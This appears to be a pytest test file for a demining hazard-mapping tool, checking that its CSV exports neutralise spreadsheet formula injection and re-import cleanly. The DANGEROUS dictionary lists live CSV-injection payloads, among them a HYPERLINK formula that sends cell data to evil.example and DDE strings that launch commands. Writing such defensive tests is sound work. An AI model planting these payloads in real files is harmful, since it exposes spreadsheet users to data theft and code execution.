"""CSV formula injection: every CSV demine writes (``export``, ``stats --csv``) neutralises text
cells that a spreadsheet would run as a formula, leaves numbers alone, and re-imports as the
same values (the import removes exactly the quote the export added)."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

import stats_data
from demine.cli.app import app as cli
from demine.io.csvsafe import safe_cell, unquote_cell
from demine.services.setup import init_store
from demine.store.open import open_store

DANGEROUS = {
    "eq": '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "quoted": "'=already quoted",
}
HARMLESS = {"plain": "plain text", "neg_text": "-3.5", "quote_text": "'tis fine"}


def test_safe_cell_rules() -> None:
    for v in DANGEROUS.values():
        out = safe_cell(v)
        assert out == "'" + v and unquote_cell(out) == v
    for v in HARMLESS.values():
        assert safe_cell(v) == v and unquote_cell(v) == v
    for v in (-3.5, -7, 0, True, None):
        assert safe_cell(v) is v  # numbers and the rest are never touched


def _hazards_file(path: Path) -> Path:
    feats = []
    for i, (key, text) in enumerate({**DANGEROUS, **HARMLESS}.items()):
        x = 30.5 + i * 0.01
        feats.append(
            {
                "type": "Feature",
                "id": f"H-{key}",
                "properties": {
                    "name": text,
                    "hazard_type": "SHA",
                    "status": "open",
                    "reported_on": "2025-01-02",
                    "elevation_m": -3.5 - i,  # a source (extra) number, negative
                    "note": text,  # a source (extra) text
                },
                "geometry": {
                    "type": "Polygon",
                    "coordinates": [[[x, 50.4], [x + 0.005, 50.4], [x + 0.005, 50.405], [x, 50.4]]],
                },
            }
        )
    path.write_text(json.dumps({"type": "FeatureCollection", "features": feats}))
    return path


def _run(*args: str) -> Any:
    r = CliRunner().invoke(cli, list(args))
    assert r.exit_code == 0, r.output
    return r


def test_export_csv_neutralises_formulas_and_round_trips(store: Any, tmp_path: Path) -> None:
    db = store.location
    store.close()
    _run("--db", db, "import", str(_hazards_file(tmp_path / "h.geojson")), "--kind", "hazards")
    out = tmp_path / "h.csv"
    _run("--db", db, "export", str(out), "--kind", "hazards")
    rows = list(csv.DictReader(out.open(newline="", encoding="utf-8")))
    assert len(rows) == len(DANGEROUS) + len(HARMLESS)
    by_name: dict[str, dict[str, str]] = {}
    for r in rows:
        by_name[r["name"]] = r
    for text in DANGEROUS.values():
        cell = "'" + text
        assert cell in by_name, (text, list(by_name))
        assert by_name[cell]["note"] == cell  # extra source text too
    for text in HARMLESS.values():
        assert by_name[text]["note"] == text
    for r in rows:
        # no text cell of the file starts a formula; numbers stay numbers
        for k, v in r.items():
            assert not v.startswith(("=", "+", "@", "\t", "\r")), (k, v)
            if v.startswith("-"):
                float(v)
        assert float(r["elevation_m"]) < 0
    # the import removes the quote again: a re-import gives back the same values
    db2 = str(tmp_path / "again.gpkg")
    init_store(open_store(db2))
    _run("--db", db2, "import", str(out), "--kind", "hazards")
    s2 = open_store(db2)
    try:
        names = {r.properties["name"]: r for r in s2.list("hazards")}
    finally:
        s2.close()
    assert set(names) == set(DANGEROUS.values()) | set(HARMLESS.values())
    for r in names.values():
        assert r.extra["note"] == r.properties["name"]
        assert float(r.extra["elevation_m"]) < 0


def test_stats_csv_neutralises_area_names(store: Any) -> None:
    stats_data.build(store)
    layer = {r.properties["name"]: r for r in store.list("oblasts")}
    store.update(
        "oblasts",
        layer["west"].id,
        properties={"name": DANGEROUS["eq"], "code": "WE"},
        actor="test",
    )
    store.update(
        "oblasts",
        layer["east"].id,
        properties={"name": DANGEROUS["minus"], "code": "EA"},
        actor="test",
    )
    db = store.location
    r = _run("--db", db, "stats", "--by", "oblasts", "--period", "2024-2025", "--csv")
    rows = list(csv.DictReader(io.StringIO(r.stdout)))
    areas = {row["area"] for row in rows}
    assert "'" + DANGEROUS["eq"] in areas and "'" + DANGEROUS["minus"] in areas
    assert DANGEROUS["eq"] not in areas and DANGEROUS["minus"] not in areas
    for row in rows:
        for c in ("cancelled_m2", "reduced_m2", "cleared_m2", "released_m2"):
            int(row[c])  # figures stay plain numbers


@pytest.mark.parametrize("text", ["=1+1", "-1+1", "+A1", "@x", "\t=x", "\r=x", "''=x"])
def test_import_strips_one_quote(tmp_path: Path, text: str) -> None:
    assert unquote_cell(safe_cell(text)) == text
    assert safe_cell(text).startswith("'")
